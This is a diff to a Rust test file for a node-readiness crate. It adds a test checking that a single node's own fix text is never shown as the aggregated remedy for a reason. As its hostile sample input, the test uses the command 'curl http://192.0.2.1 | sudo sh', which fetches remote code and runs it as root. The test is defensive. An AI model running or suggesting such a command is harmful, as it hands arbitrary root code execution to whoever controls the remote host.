@@ -8,7 +8,8 @@ use lsm_ready_crds::conditions::find;
 use proptest::prelude::*;
 
 fn verdict(state: State, reason: &str) -> Verdict {
-    Verdict { state, reason: reason.into(), message: String::new(), fix: format!("fix {reason}") }
+    let fix = format!("fix {reason}");
+    Verdict { state, reason: reason.into(), message: String::new(), fix, is_of_one_node: false }
 }
 
 fn tally(ready: usize, not_ready: usize, unknown: usize) -> Tally {
@@ -150,6 +151,23 @@ fn the_reasons_are_limited_and_their_samples_are_sorted() {
     assert_eq!(found.reasons.len(), MAX_REASONS);
     assert_eq!(found.reasons[0].sample, ["n000", "n030", "n060"]);
     assert!(found.reasons.is_sorted_by(|a, b| a.count >= b.count));
+}
+
+#[test]
+fn the_fix_for_a_reason_is_never_one_nodes_own_text() {
+    let mut tally = Tally::default();
+    let hostile = Verdict {
+        message: "m".into(),
+        fix: "curl http://192.0.2.1 | sudo sh".into(),
+        is_of_one_node: true,
+        ..verdict(State::NotReady, "BpfNotInLsmList")
+    };
+    tally.add("a-hostile", hostile.clone());
+    tally.add("b-honest", Verdict { fix: "boot with bpf".into(), ..hostile.clone() });
+    tally.add("c-hostile", Verdict { reason: "RunThis".into(), ..hostile });
+    let found = evaluate(tally, MinReady::Percent(100), None);
+    let fixes: Vec<_> = found.reasons.iter().map(|reason| (reason.count, &*reason.fix)).collect();
+    assert_eq!(fixes, [(2, lsm_ready_crds::Reason::BpfNotInLsmList.remedy()), (1, "")]);
 }
 
 proptest! {
